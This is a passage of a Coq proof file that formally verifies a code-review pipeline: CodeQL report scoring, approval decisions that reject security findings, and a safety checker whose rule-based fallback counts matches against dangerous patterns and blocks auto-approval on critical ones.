  (forall n, securityScore report = Num n -> 0 <= n <= 100) /\
  riskLevel report = determineRiskLevel (securityScore report).
Proof.
  destruct (processResults_parts sarif now) as (_ & Hi & Hs & Hr).
  destruct (collected_settled sarif now) as [_ Hk].
  cbv zeta in *. rewrite Hi, Hs. split; [|split; [|now rewrite Hr, Hs]].
  - unfold calculateSecurityScore.
    rewrite <- (fold_deduct_NaN_iff _ 100%Q Hk).
    destruct (fold_left _ _ _); split; intros H; try reflexivity; discriminate H.
  - intros n. unfold calculateSecurityScore.
    destruct (fold_left _ _ _) as [q|] eqn:E; [|discriminate].
    intros [= <-]. split; [lia|].
    apply fold_deduct_lowers in E. apply Math_round_monotone in E.
    change 100%Q with (inject_Z 100) in E. rewrite Math_round_integer in E. lia.
Qed.

Lemma deduct_error_security a issue :
  severity issue = "error" -> category issue = "security" ->
  exists q, deduct constructor (Some a) issue = Some q /\ (q <= a - 100)%Q.
Proof.
  intros Hs Hc. unfold deduct. rewrite Hs, Hc.
  cbn [readOr securitySeverities ruleCategories constructor find fst snd String.eqb
       Ascii.eqb Bool.eqb andb Qeq_bool].
  eexists. split; [reflexivity|].
  setoid_replace (100 * 100 / 100)%Q with 100%Q by reflexivity. apply Qle_refl.
Qed.

Lemma fold_deduct_error_security l : forall a q issue,
  In issue l -> severity issue = "error" -> category issue = "security" ->
  fold_left (deduct constructor) l (Some a) = Some q -> (q <= a - 100)%Q.
Proof.
  induction l as [|i l IH]; intros a q issue Hin Hs Hc; [destruct Hin|].
  cbn [fold_left]. destruct Hin as [->|Hin].
  - destruct (deduct_error_security a issue Hs Hc) as (a' & -> & Ha).
    intros H. apply fold_deduct_lowers in H. lra.
  - destruct (deduct constructor (Some a) i) as [a'|] eqn:E.
    + intros H. apply (IH _ _ _ Hin Hs Hc) in H. apply deduct_lowers in E. lra.
    + now rewrite fold_deduct_NaN.
Qed.

(** X19.  One issue of severity error and category security is enough:
    the report then has the risk level CRITICAL and a security score of 0
    (or NaN), whatever else was found. *)
Theorem error_security_issue_is_critical sarif now issue :
  let report := processResults constructor sarif now in
  In issue (issues report) ->
  severity issue = "error" -> category issue = "security" ->
  riskLevel report = "CRITICAL" /\
  (securityScore report = Num 0 \/ securityScore report = NaN).
Proof.
  destruct (processResults_parts sarif now) as (_ & Hi & Hs & Hr).
  cbv zeta in *. rewrite Hr, Hs, Hi. intros Hin Hsev Hcat.
  unfold calculateSecurityScore.
  destruct (fold_left _ _ _) as [q|] eqn:E; [|split; [reflexivity|now right]].
  apply (fold_deduct_error_security _ _ _ _ Hin Hsev Hcat) in E.
  assert (E' : (q <= inject_Z 0)%Q) by (change (inject_Z 0) with 0%Q; lra).
  apply Math_round_monotone in E'. rewrite Math_round_integer in E'.
  replace (Z.max 0 (Math_round q)) with 0 by lia.
  split; [reflexivity|now left].
Qed.

End CodeQLProcessor.

(** ** From the CodeQL report to the decision *)

Section CodeQLDecision.
Import Js Checks.

Lemma countIssues_positive p l issue :
  In issue l -> p issue = true -> 1 <= countIssues p l.
Proof.
  intros Hin Hp. unfold countIssues.
  assert (H : In issue (filter p l)) by (apply filter_In; auto).
  destruct (filter p l); [destruct H|cbn [List.length]; lia].
Qed.

Lemma Qgtb_positive (n : Z) : 1 <= n -> Qgtb (inject_Z n) 0 = true.
Proof.
  intros H. apply Qgtb_true. change 0%Q with (inject_Z 0). rewrite <- Zlt_Qlt. lia.
Qed.

(** X20.  A CodeQL report that lists an issue of category security makes
    [calculateApprovalScore] reject the submission, whatever the issue
    data and the AI report: the decision is REJECT, auto-approval is off,
    and the one reason is the validation errors or, when there are none,
    the security vulnerabilities detected by CodeQL. *)
Theorem security_finding_rejected sarif now issue d ai :
  let report := CodeQL.processResults CodeQL.constructor sarif now in
  In issue (CodeQL.issues report) ->
  CodeQL.category issue = "security" ->
  exists r,
    Approval.calculateApprovalScore Approval.constructor (Some d)
      (Some (asSecurityReport report)) ai = Ok r /\
    Approval.recommendation r = Approval.REJECT /\
    Approval.autoApprove r = false /\
    (Approval.details_issues r = ["Validation errors detected"] \/
     Approval.details_issues r = ["Security vulnerabilities detected by CodeQL"]).
Proof.
  intros report Hin Hcat.
  destruct (processResults_counted sarif now) as (_ & Hsec & _). fold report in Hsec.
  assert (Hpos : 1 <= CodeQL.securityIssues (CodeQL.summary report)).
  { cbv zeta in Hsec. rewrite Hsec. apply (countIssues_positive _ _ issue Hin).
    unfold hasCategory. now apply String.eqb_eq. }
  clearbody report.
  match goal with
  | |- exists r, Approval.calculateApprovalScore _ (Some ?dd) ?sec ?aa = _ /\ _ =>
      pose proof (calculateApprovalScore_first_reason dd sec aa) as Hr
  end.
  unfold Approval.blockingConditions in Hr at 1.
  cbn [find Approval.condition] in Hr.
  match type of Hr with
  | context [if ?b then _ else _] => destruct b
  end.
  - destruct (Hr _ eq_refl) as (r & H1 & H2 & H3 & H4). exists r. auto.
  - unfold asSecurityReport in Hr at 1.
    cbn [chain Approval.sec_summary Approval.securityIssues opt_gt] in Hr.
    rewrite (Qgtb_positive _ Hpos) in Hr.
    destruct (Hr _ eq_refl) as (r & H1 & H2 & H3 & H4). exists r. auto.
Qed.

(** X21.  A CodeQL report that lists an issue of severity error, of any
    category, is never auto-approved by [calculateApprovalScore]. *)
Theorem error_finding_not_auto_approved sarif now issue d ai r :
  let report := CodeQL.processResults CodeQL.constructor sarif now in
  In issue (CodeQL.issues report) ->
  CodeQL.severity issue = "error" ->
  Approval.calculateApprovalScore Approval.constructor d
    (Some (asSecurityReport report)) ai = Ok r ->
  Approval.autoApprove r = false /\ Approval.recommendation r <> Approval.AUTO_APPROVE.
Proof.
  intros report Hin Hsev Hr.
  destruct (processResults_counted sarif now) as (_ & _ & Herr & _). fold report in Herr.
  assert (Hpos : 1 <= CodeQL.errorCount (CodeQL.summary report)).
  { cbv zeta in Herr. rewrite Herr. apply (countIssues_positive _ _ issue Hin).
    unfold hasSeverity. now apply String.eqb_eq. }
  clearbody report.
  assert (Hb : Approval.hasNoBlockingIssues (Some (asSecurityReport report)) ai = false).
  { unfold Approval.hasNoBlockingIssues, asSecurityReport.
    cbn [chain Approval.sec_summary Approval.errorCount orZero].
    now rewrite (Qgtb_positive _ Hpos). }
  destruct (calculateApprovalScore_report _ _ _ _ Hr) as (v & rep & -> & -> & _ & _).
  destruct (determineApprovalStatus_cases rep (Some v) (Some (asSecurityReport report)) ai)
    as [(c & _ & ->)|[(_ & _ & _ & Hn & _)|[(_ & _ & iss & -> & _)|(_ & _ & reason & ->)]]];
    try (cbn; split; [reflexivity|discriminate]).
  congruence.
Qed.

End CodeQLDecision.

Section CodeQLExamples.
Import Js Checks.

Example sample_sarif_report :
  let report := CodeQL.processResults CodeQL.constructor sampleSarif "2025-01-02T00:00:00Z" in
  CodeQL.issues report = [sampleFinding] /\
  CodeQL.securityScore report = CodeQL.Num 0 /\
  CodeQL.riskLevel report = "CRITICAL" /\
  map CodeQL.rec_action (CodeQL.recommendations report)
  = ["Fix security issues"; "Fix critical errors"; "Manual security review"].
Proof. vm_compute. repeat split. Qed.

Lemma error_security_issue_is_critical_witness :
  CodeQL.riskLevel
    (CodeQL.processResults CodeQL.constructor sampleSarif "2025-01-02T00:00:00Z")
  = "CRITICAL".
Proof.
  refine (proj1 (error_security_issue_is_critical sampleSarif "2025-01-02T00:00:00Z"
                   sampleFinding _ eq_refl eq_refl)).
  vm_compute. now left.
Defined.

Lemma security_finding_rejected_witness :
  exists r,
    Approval.calculateApprovalScore Approval.constructor
      (Some {| Approval.validation := None |})
      (Some (asSecurityReport
               (CodeQL.processResults CodeQL.constructor sampleSarif
                  "2025-01-02T00:00:00Z")))
      None = Ok r /\
    Approval.recommendation r = Approval.REJECT.
Proof.
  destruct (security_finding_rejected sampleSarif "2025-01-02T00:00:00Z" sampleFinding
              {| Approval.validation := None |} None) as (r & H1 & H2 & _).
  - vm_compute. now left.
  - reflexivity.
  - exists r. split; [exact H1|exact H2].
Defined.

Lemma error_finding_not_auto_approved_witness :
  exists r,
    Approval.calculateApprovalScore Approval.constructor
      (Some {| Approval.validation := None |})
      (Some (asSecurityReport
               (CodeQL.processResults CodeQL.constructor sampleSarif
                  "2025-01-02T00:00:00Z")))
      None = Ok r /\
    Approval.autoApprove r = false.
Proof.
  destruct (Approval.calculateApprovalScore Approval.constructor
      (Some {| Approval.validation := None |})
      (Some (asSecurityReport
               (CodeQL.processResults CodeQL.constructor sampleSarif
                  "2025-01-02T00:00:00Z")))
      None) as [r|] eqn:E; [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  refine (proj1 (error_finding_not_auto_approved sampleSarif "2025-01-02T00:00:00Z"
                   sampleFinding _ None r _ eq_refl E)).
  vm_compute. now left.
Defined.

End CodeQLExamples.

(** ** The safety checker: tallies and the rule-based analysis *)

Section ScannerInvariants.
Import Js Scanner ScannerSpec Checks.

Variable regexMatches : Pattern -> string -> list string.
Variable inference : string -> Command -> string -> result CommandReport.
Variable this : AISafetyChecker.

Lemma analyzeCommand_returns command index :
  exists c,
    analyzeCommand regexMatches inference this command index = Ok c /\
    commandIndex c = index /\
    commandName c = nameOrNumbered command index.
Proof.
  unfold analyzeCommand.
  destruct (code command) as [[|ch rest]|]; try (eexists; split; [reflexivity|]; auto).
  destruct (callGitHubModelsAPI inference this command _) as [a|e];
    cbn [bind try_catch]; eexists; (split; [reflexivity|]); auto.
Qed.

Lemma fold_countIssue_counters issues : forall report,
  let r := fold_left countIssue issues report in
  commandReports r = commandReports report /\
  totalIssues r = totalIssues report + Z.of_nat (List.length issues) /\
  criticalIssues r = criticalIssues report + Z.of_nat (countSeverity "CRITICAL" issues) /\
  highIssues r = highIssues report + Z.of_nat (countSeverity "HIGH" issues) /\
  mediumIssues r = mediumIssues report + Z.of_nat (countSeverity "MEDIUM" issues) /\
  lowIssues r = lowIssues report + Z.of_nat (countSeverity "LOW" issues).
Proof.
  induction issues as [|i l IH]; intros report; cbn [fold_left].
  - unfold countSeverity. cbn. repeat split; lia.
  - destruct (IH (countIssue report i)) as (H0 & H1 & H2 & H3 & H4 & H5).
    cbv zeta in *. rewrite H0, H1, H2, H3, H4, H5.
    unfold countSeverity, countIssue. cbn [filter commandReports totalIssues
      criticalIssues highIssues mediumIssues lowIssues List.length].
    repeat split;
      repeat match goal with
             | |- context [String.eqb ?a ?b] => destruct (String.eqb a b)
             end; cbn [List.length]; lia.
Qed.

Lemma sumZ_app l1 l2 : sumZ (l1 ++ l2) = sumZ l1 + sumZ l2.
Proof. unfold sumZ. induction l1 as [|x l IH]; cbn; [reflexivity|]. rewrite IH. lia. Qed.

Lemma checkCommands_reports commands : forall i report,
  let r := checkCommands regexMatches inference this i commands report in
  exists new,
    commandReports r = (commandReports report ++ new)%list /\
    map Ok new
    = map (fun ic => analyzeCommand regexMatches inference this (snd ic) (fst ic))
        (numberedFrom i commands) /\
    totalIssues r = totalIssues report + allFindings new /\
    criticalIssues r = criticalIssues report + severityFindings "CRITICAL" new /\
    highIssues r = highIssues report + severityFindings "HIGH" new /\
    mediumIssues r = mediumIssues report + severityFindings "MEDIUM" new /\
    lowIssues r = lowIssues report + severityFindings "LOW" new.
Proof.
  induction commands as [|command rest IH]; intros i report; cbn [checkCommands].
  - exists []. rewrite app_nil_r. cbn. repeat split; lia.
  - destruct (analyzeCommand_returns command i) as (c & Hc & _). rewrite Hc.
    destruct (fold_countIssue_counters (c_issues c) (pushCommandReport report c))
      as (H0 & H1 & H2 & H3 & H4 & H5).
    cbv zeta in *. cbn [pushCommandReport commandReports totalIssues criticalIssues
      highIssues mediumIssues lowIssues] in H0, H1, H2, H3, H4, H5.
    destruct (IH (S i) (fold_left countIssue (c_issues c) (pushCommandReport report c)))
      as (new & Hr & Hm & K1 & K2 & K3 & K4 & K5).
    exists (c :: new).
    rewrite Hr, H0, K1, K2, K3, K4, K5, H1, H2, H3, H4, H5.
    unfold push. rewrite <- app_assoc.
    unfold numberedFrom in *. cbn [List.length seq combine map fst snd].
    rewrite Hc, Hm. unfold allFindings, severityFindings, sumZ. cbn [map fold_right].
    repeat split; lia.
Qed.

Lemma calculateOverallScores_keeps report :
  let r := calculateOverallScores report in
  commandReports r = commandReports report /\
  totalIssues r = totalIssues report /\
  criticalIssues r = criticalIssues report /\
  highIssues r = highIssues report /\
  mediumIssues r = mediumIssues report /\
  lowIssues r = lowIssues report.
Proof.
  cbv zeta. unfold calculateOverallScores.
  destruct (List.length (commandReports report) =? 0)%nat; cbn; auto 10.
Qed.

Lemma performSafetyCheck_looped commands report :
  performSafetyCheck regexMatches inference this commands = Ok report ->
  commands <> [] /\
  exists looped,
    report = calculateOverallScores looped /\
    map Ok (commandReports looped)
    = map (fun ic => analyzeCommand regexMatches inference this (snd ic) (fst ic))
        (numberedFrom 0 commands) /\
    totalIssues looped = allFindings (commandReports looped) /\
    criticalIssues looped = severityFindings "CRITICAL" (commandReports looped) /\
    highIssues looped = severityFindings "HIGH" (commandReports looped) /\
    mediumIssues looped = severityFindings "MEDIUM" (commandReports looped) /\
    lowIssues looped = severityFindings "LOW" (commandReports looped).
Proof.
  unfold performSafetyCheck.
  destruct (List.length commands =? 0)%nat eqn:El; [discriminate|].
  intros [= <-]. split; [intros ->; discriminate|].
  match goal with
  | |- context [checkCommands _ _ _ 0 commands ?init] =>
      destruct (checkCommands_reports commands 0%nat init)
        as (new & Hr & Hm & K1 & K2 & K3 & K4 & K5)
  end.
  cbv zeta in *. cbn [commandReports totalIssues criticalIssues highIssues mediumIssues
    lowIssues app] in Hr, K1, K2, K3, K4, K5.
  eexists. split; [reflexivity|]. rewrite Hr, K1, K2, K3, K4, K5. auto 10.
Qed.

Lemma analyzeCommand_unavailable command index :
  (forall command code, exists e,
      callGitHubModelsAPI inference this command code = Throw e) ->
  analyzeCommand regexMatches inference this command index
  = Ok (ruleBasedReport regexMatches this command index).
Proof.
  intros Hun. unfold analyzeCommand, ruleBasedReport.
  destruct (code command) as [[|ch rest]|]; try reflexivity.
  fold (analyzedCode this (String ch rest)).
  destruct (Hun command (analyzedCode this (String ch rest))) as [e ->].
  reflexivity.
Qed.

Lemma map_Ok_injective {A : Type} (l l' : list A) :
  map (@Ok A) l = map (@Ok A) l' -> l = l'.
Proof.
  revert l'. induction l as [|x l IH]; intros [|y l'] H; try discriminate H.
  - reflexivity.
  - cbn [map] in H. injection H as -> H. now rewrite (IH _ H).
Qed.

(** X22.  When the inference service gives no answer (no token, a network
    error, a time-out, an answer that the response handler refuses), a
    safety check that returns holds exactly one command report per
    command, in order, each the report that the checker builds itself for
    that command at its position; [totalIssues] is the number of all issues
    of these reports, and [criticalIssues], [highIssues], [mediumIssues]
    and [lowIssues] the numbers of those of each severity. *)
Theorem performSafetyCheck_tally commands report :
  (forall command code, exists e,
      callGitHubModelsAPI inference this command code = Throw e) ->
  performSafetyCheck regexMatches inference this commands = Ok report ->
  commandReports report
  = map (fun ic => ruleBasedReport regexMatches this (snd ic) (fst ic))
      (numberedFrom 0 commands) /\
  List.length (commandReports report) = List.length commands /\
  totalIssues report = allFindings (commandReports report) /\
  criticalIssues report = severityFindings "CRITICAL" (commandReports report) /\
  highIssues report = severityFindings "HIGH" (commandReports report) /\
  mediumIssues report = severityFindings "MEDIUM" (commandReports report) /\
  lowIssues report = severityFindings "LOW" (commandReports report).
Proof.
  intros Hun H. destruct (performSafetyCheck_looped _ _ H)
    as (_ & looped & -> & Hm & K1 & K2 & K3 & K4 & K5).
  destruct (calculateOverallScores_keeps looped) as (H0 & H1 & H2 & H3 & H4 & H5).
  cbv zeta in *. rewrite H0, H1, H2, H3, H4, H5.
  assert (Hr : commandReports looped
               = map (fun ic => ruleBasedReport regexMatches this (snd ic) (fst ic))
                   (numberedFrom 0 commands)).
  { apply map_Ok_injective. rewrite Hm, map_map. apply map_ext.
    intros ic. now apply analyzeCommand_unavailable. }
  repeat split; auto.
  rewrite Hr, length_map. unfold numberedFrom. rewrite length_combine, length_seq. lia.
Qed.

(** *** The rule-based analysis *)

Lemma scanDangerous_matches p : forall found iss s,
  fold_left
    (fun st f =>
       (push (fst st)
          {| severity := d_severity p;
             category := d_category p;
             issue_description := "Found potentially dangerous pattern: " ++ f;
             recommendation := getRecommendation (d_category p) (d_severity p) |},
        snd st - points p))
    found (iss, s)
  = ((iss ++ map (issueOf p) found)%list, s - points p * Z.of_nat (List.length found)).
Proof.
  induction found as [|f l IH]; intros iss s; cbn [fold_left map List.length].
  - rewrite app_nil_r. f_equal. lia.
  - cbn [fst snd]. rewrite IH. unfold push. rewrite <- app_assoc. cbn [app].
    f_equal. lia.
Qed.

Lemma scanDangerous_step code p iss s :
  scanDangerous regexMatches code (iss, s) p
  = ((iss ++ map (issueOf p) (regexMatches (pattern p) code))%list,
     s - points p * Z.of_nat (List.length (regexMatches (pattern p) code))).
Proof. unfold scanDangerous. apply scanDangerous_matches. Qed.

Lemma scanDangerous_patterns code ps : forall iss s,
  let st := fold_left (scanDangerous regexMatches code) ps (iss, s) in
  fst st
  = (iss ++ flat_map (fun p => map (issueOf p) (regexMatches (pattern p) code)) ps)%list /\
  (flat_map (fun p => map (issueOf p) (regexMatches (pattern p) code)) ps = [] ->
   snd st = s).
Proof.
  induction ps as [|p ps IH]; intros iss s; cbn [fold_left flat_map].
  - rewrite app_nil_r. auto.
  - rewrite scanDangerous_step.
    destruct (IH (iss ++ map (issueOf p) (regexMatches (pattern p) code))%list
                (s - points p * Z.of_nat (List.length (regexMatches (pattern p) code))))
      as [H1 H2].
    cbv zeta in *. rewrite H1, <- app_assoc. split; [reflexivity|].
    intros H. apply app_eq_nil in H. destruct H as [Hp Hps].
    rewrite (H2 Hps). destruct (regexMatches (pattern p) code); [cbn; lia|discriminate].
Qed.

Lemma scanPositive_raises code ps : forall s,
  Forall (fun p => 0 <= snd p) ps ->
  s <= fold_left (scanPositive regexMatches code) ps s.
Proof.
  induction ps as [|p ps IH]; intros s H; cbn [fold_left]; [lia|].
  inversion H as [|? ? Hp Hps]; subst.
  specialize (IH (scanPositive regexMatches code s p) Hps).
  unfold scanPositive in *. destruct (regexMatches (fst p) code); lia.
Qed.

Lemma percent_clamped (n : Z) : percent (inject_Z (Z.max 0 (Z.min 100 n))).
Proof.
  unfold percent. change 0%Q with (inject_Z 0). change 100%Q with (inject_Z 100).
  rewrite <- !Zle_Qle. lia.
Qed.

Lemma simulateAIAnalysis_issues command index code :
  c_issues (simulateAIAnalysis regexMatches command index code)
  = dangerousFindings regexMatches code.
Proof.
  unfold simulateAIAnalysis. cbn [c_issues].
  now rewrite (proj1 (scanDangerous_patterns code dangerousPatterns [] 100)).
Qed.

(** X23.  The rule-based analysis records one issue per match of each
    dangerous pattern, in the order of the table and with the severity and
    category of the pattern; its score lies between 0 and 100 and its risk
    level is the level of that score. *)
Theorem simulateAIAnalysis_findings command index code :
  let c := simulateAIAnalysis regexMatches command index code in
  c_issues c = dangerousFindings regexMatches code /\
  percent (c_safetyScore c) /\
  c_riskLevel c = determineRiskLevel (c_safetyScore c).
Proof.
  cbv zeta. split; [apply simulateAIAnalysis_issues|].
  split; [apply percent_clamped|reflexivity].
Qed.

Lemma simulateAIAnalysis_clean command index code :
  dangerousFindings regexMatches code = [] ->
  let c := simulateAIAnalysis regexMatches command index code in
  c_issues c = [] /\ c_safetyScore c = 100%Q /\ c_riskLevel c = "LOW" /\
  c_autoApprove c = true.
Proof.
  intros Hclean.
  destruct (scanDangerous_patterns code dangerousPatterns [] 100) as [H1 H2].
  cbv zeta in *. fold (dangerousFindings regexMatches code) in H1, H2.
  specialize (H2 Hclean). rewrite Hclean in H1.
  unfold simulateAIAnalysis. cbn [c_issues c_safetyScore c_riskLevel c_autoApprove].
  rewrite H1, H2.
  assert (Hb : 100 <= fold_left (scanPositive regexMatches code) positivePatterns 100).
  { apply scanPositive_raises. repeat constructor; cbn; lia. }
  replace (Z.max 0 (Z.min 100 (fold_left (scanPositive regexMatches code)
                                  positivePatterns 100))) with 100 by lia.
  repeat split.
Qed.

(** *** The collection scores *)

Lemma total_between (lo hi : Q) (l : list CommandReport) : forall a,
  Forall (fun c => (lo <= c_safetyScore c)%Q /\ (c_safetyScore c <= hi)%Q) l ->
  (a + lo * inject_Z (Z.of_nat (List.length l))
   <= fold_left (fun sum cmd => (sum + c_safetyScore cmd)%Q) l a)%Q /\
  (fold_left (fun sum cmd => (sum + c_safetyScore cmd)%Q) l a
   <= a + hi * inject_Z (Z.of_nat (List.length l)))%Q.
Proof.
  induction l as [|c l IH]; intros a H; cbn [fold_left List.length].
  - change (inject_Z (Z.of_nat 0)) with 0%Q. split; lra.
  - inversion H as [|? ? [Hlo Hhi] Hl]; subst.
    destruct (IH (a + c_safetyScore c)%Q Hl) as [I1 I2].
    rewrite Nat2Z.inj_succ. unfold Z.succ. rewrite inject_Z_plus.
    change (inject_Z 1) with 1%Q.
    set (n := inject_Z (Z.of_nat (List.length l))) in *. clearbody n.
    split; lra.
Qed.

Lemma calculateOverallScores_between (lo hi : Z) report :
  commandReports report <> [] ->
  Forall (fun c => (inject_Z lo <= c_safetyScore c)%Q /\
                   (c_safetyScore c <= inject_Z hi)%Q) (commandReports report) ->
  let r := calculateOverallScores report in
  lo <= safetyScore r <= hi /\
  riskLevel r = determineRiskLevel (inject_Z (safetyScore r)).
Proof.
  intros Hne Hall. cbv zeta. unfold calculateOverallScores.
  destruct (commandReports report) as [|c0 l] eqn:E; [congruence|].
  rewrite <- E in *. clear E c0 l.
  assert (Hlen : (0 < List.length (commandReports report))%nat)
    by (destruct (commandReports report); [congruence|cbn; lia]).
  destruct (List.length (commandReports report) =? 0)%nat eqn:El;
    [apply Nat.eqb_eq in El; lia|].
  cbn [safetyScore riskLevel]. split; [|reflexivity].
  destruct (total_between _ _ _ 0%Q Hall) as [H1 H2].
  set (total := fold_left _ _ _) in *. clearbody total.
  set (n := inject_Z (Z.of_nat (List.length (commandReports report)))) in *.
  assert (Hn : (0 < n)%Q).
  { subst n. change 0%Q with (inject_Z 0). rewrite <- Zlt_Qlt. lia. }
  clearbody n.
  assert (Hlo : (inject_Z lo <= total / n)%Q) by (apply Qle_shift_div_l; [exact Hn|lra]).
  assert (Hhi : (total / n <= inject_Z hi)%Q) by (apply Qle_shift_div_r; [exact Hn|lra]).
  apply Math_round_monotone in Hlo, Hhi. rewrite Math_round_integer in Hlo, Hhi. lia.
Qed.


(** *** Without a token *)

Hypothesis noToken : githubToken this = None.

Lemma analyzeCommand_noToken command index :
  analyzeCommand regexMatches inference this command index
  = Ok (match code command with
        | None | Some EmptyString =>
            {| commandIndex := index;
               commandName := nameOrNumbered command index;
               c_safetyScore := 100;
               c_riskLevel := "LOW";
               c_issues := [];
               c_summary := "No code to analyze";
               c_autoApprove := true |}
        | Some text =>
            simulateAIAnalysis regexMatches command index (analyzedCode this text)
        end).
Proof.
  unfold analyzeCommand, callGitHubModelsAPI. rewrite noToken.
  destruct (code command) as [[|ch rest]|]; reflexivity.
Qed.

Lemma numberedFrom_In {A : Type} (l : list A) : forall first x,
  In x l -> exists i, In (i, x) (numberedFrom first l).
Proof.
  induction l as [|y l IH]; intros first x Hin; [destruct Hin|].
  unfold numberedFrom. cbn [List.length seq combine].
  destruct Hin as [->|Hin].
  - exists first. now left.
  - destruct (IH (S first) x Hin) as [i Hi]. exists i. now right.
Qed.

Lemma reports_of_commands (reports : list CommandReport) (pairs : list (nat * Command)) :
  map Ok reports
  = map (fun ic => analyzeCommand regexMatches inference this (snd ic) (fst ic)) pairs ->
  (forall c, In c reports ->
     exists ic, In ic pairs /\
       analyzeCommand regexMatches inference this (snd ic) (fst ic) = Ok c) /\
  (forall ic, In ic pairs ->
     exists c, In c reports /\
       analyzeCommand regexMatches inference this (snd ic) (fst ic) = Ok c).
Proof.
  intros H. split.
  - intros c Hc.
    assert (Hin : In (Ok c) (map (@Ok CommandReport) reports)) by now apply in_map.
    rewrite H in Hin. apply in_map_iff in Hin. destruct Hin as (ic & E & Hic). eauto.
  - intros ic Hic.
    assert (Hin : In (analyzeCommand regexMatches inference this (snd ic) (fst ic))
                    (map (@Ok CommandReport) reports)).
    { rewrite H.
      exact (in_map (fun ic => analyzeCommand regexMatches inference this (snd ic) (fst ic))
               _ _ Hic). }
    apply in_map_iff in Hin. destruct Hin as (c & E & Hc). eauto.
Qed.

Lemma severityFindings_positive sev reports c :
  In c reports -> (1 <= countSeverity sev (c_issues c))%nat ->
  1 <= severityFindings sev reports.
Proof.
  unfold severityFindings, sumZ.
  induction reports as [|c' l IH]; intros Hin Hc; [destruct Hin|].
  cbn [map fold_right].
  assert (Hnn : 0 <= fold_right Z.add 0
                  (map (fun c => Z.of_nat (countSeverity sev (c_issues c))) l)).
  { clear. induction l; cbn; lia. }
  destruct Hin as [->|Hin]; [lia|]. specialize (IH Hin Hc). lia.
Qed.

(** X25.  Without a token, a command whose analyzed code matches a
    pattern of severity CRITICAL keeps the whole collection from being
    auto-approved, and is counted among the critical issues. *)
Theorem critical_pattern_blocks_auto_approval commands report command text p :
  performSafetyCheck regexMatches inference this commands = Ok report ->
  In command commands ->
  code command = Some text -> text <> "" ->
  In p dangerousPatterns -> d_severity p = "CRITICAL" ->
  regexMatches (pattern p) (analyzedCode this text) <> [] ->
  autoApprove report = false /\ 1 <= criticalIssues report.
Proof.
  intros H Hin Hcode Htext Hp Hsev Hmatch.
  destruct (performSafetyCheck_looped _ _ H)
    as (Hne & looped & -> & Hm & _ & K & _).
  destruct (numberedFrom_In commands 0%nat command Hin) as [i Hi].
  destruct (proj2 (reports_of_commands _ _ Hm) _ Hi) as (c & Hc & Ec).
  cbn [fst snd] in Ec. rewrite analyzeCommand_noToken, Hcode in Ec.
  destruct text as [|ch rest]; [congruence|]. injection Ec as Ec.
  assert (Hcrit : 1 <= criticalIssues looped).
  { rewrite K. apply (severityFindings_positive _ _ c Hc).
    rewrite <- Ec, simulateAIAnalysis_issues.
    destruct (regexMatches (pattern p) (analyzedCode this (String ch rest)))
      as [|found more] eqn:Ef; [congruence|].
    assert (Hi' : In (issueOf p found)
                    (dangerousFindings regexMatches (analyzedCode this (String ch rest)))).
    { unfold dangerousFindings. apply in_flat_map. exists p. split; [exact Hp|].
      rewrite Ef. now left. }
    destruct (countSeverity "CRITICAL" _) eqn:E0; [|lia].
    apply countSeverity_zero with (i := issueOf p found) in E0; [|exact Hi'].
    cbn [issueOf severity] in E0. congruence. }
  destruct (calculateOverallScores_keeps looped) as (_ & _ & H2 & _).
  cbv zeta in H2. rewrite H2. split; [|exact Hcrit].
  unfold calculateOverallScores.
  destruct (List.length (commandReports looped) =? 0)%nat; [reflexivity|].
  cbn [autoApprove]. replace (criticalIssues looped =? 0) with false
    by (symmetry; apply Z.eqb_neq; lia).
  now rewrite andb_false_r.
Qed.

Lemma findings_none reports :
  (forall c, In c reports -> c_issues c = []) ->
  allFindings reports = 0 /\ forall sev, severityFindings sev reports = 0.
Proof.
  unfold allFindings, severityFindings, sumZ.
  induction reports as [|c l IH]; intros H; [split; reflexivity|].
  cbn [map fold_right]. destruct IH as [I1 I2]; [intros c' Hc'; apply H; now right|].
  rewrite (H c (or_introl eq_refl)). split; [|intros sev; rewrite I2]; cbn; lia.
Qed.

(** X26.  Without a token, a collection in which no analyzed code matches
    a dangerous pattern gets the score 100, the risk level LOW, no issue
    and the auto-approval hint. *)
Theorem clean_collection_is_approved commands report :
  performSafetyCheck regexMatches inference this commands = Ok report ->
  Forall (fun command =>
            forall text, code command = Some text ->
              dangerousFindings regexMatches (analyzedCode this text) = []) commands ->
  safetyScore report = 100 /\ riskLevel report = "LOW" /\
  autoApprove report = true /\ totalIssues report = 0.
Proof.
  intros H Hclean.
  destruct (performSafetyCheck_looped _ _ H)
    as (Hne & looped & -> & Hm & K1 & K2 & _).
  assert (Hall : forall c, In c (commandReports looped) ->
            c_issues c = [] /\ c_safetyScore c = 100%Q /\ c_autoApprove c = true).
  { intros c Hc.
    destruct (proj1 (reports_of_commands _ _ Hm) c Hc) as ([i command] & Hic & Ec).
    cbn [fst snd] in Ec. rewrite analyzeCommand_noToken in Ec. injection Ec as <-.
    apply in_combine_r in Hic. rewrite Forall_forall in Hclean.
    specialize (Hclean command Hic).
    destruct (code command) as [[|ch rest]|]; try (cbn; auto).
    destruct (simulateAIAnalysis_clean command i _ (Hclean _ eq_refl))
      as (A1 & A2 & _ & A4). auto. }
  assert (Hnonempty : commandReports looped <> []).
  { intros E. rewrite E in Hm. cbn in Hm. symmetry in Hm. apply map_eq_nil in Hm.
    unfold numberedFrom in Hm. destruct commands; [congruence|discriminate]. }
  assert (Hscore : Forall (fun c => (inject_Z 100 <= c_safetyScore c)%Q /\
                                    (c_safetyScore c <= inject_Z 100)%Q)
                     (commandReports looped)).
  { apply Forall_forall. intros c Hc. destruct (Hall c Hc) as (_ & -> & _).
    split; apply Qle_refl. }
  destruct (calculateOverallScores_between 100 100 looped Hnonempty Hscore) as [Hs Hr].
  cbv zeta in Hs, Hr.
  assert (Es : safetyScore (calculateOverallScores looped) = 100) by lia.
  assert (Hzero : forall sev, severityFindings sev (commandReports looped) = 0).
  { intros sev. apply findings_none. intros c Hc. now apply Hall. }
  assert (Htotal : allFindings (commandReports looped) = 0).
  { apply findings_none. intros c Hc. now apply Hall. }
  destruct (calculateOverallScores_keeps looped) as (_ & H1 & _).
  cbv zeta in H1. rewrite Hr, Es, H1, K1, Htotal.
  split; [reflexivity|]. split; [reflexivity|]. split; [|reflexivity].
  revert Es. unfold calculateOverallScores.
  destruct (List.length (commandReports looped) =? 0)%nat; cbn [safetyScore autoApprove];
    [discriminate|].
  intros ->. rewrite K2, Hzero.
  change (75 <=? 100) with true. change (0 =? 0) with true. cbn [andb].
  apply forallb_forall. intros c Hc. now apply Hall.
Qed.

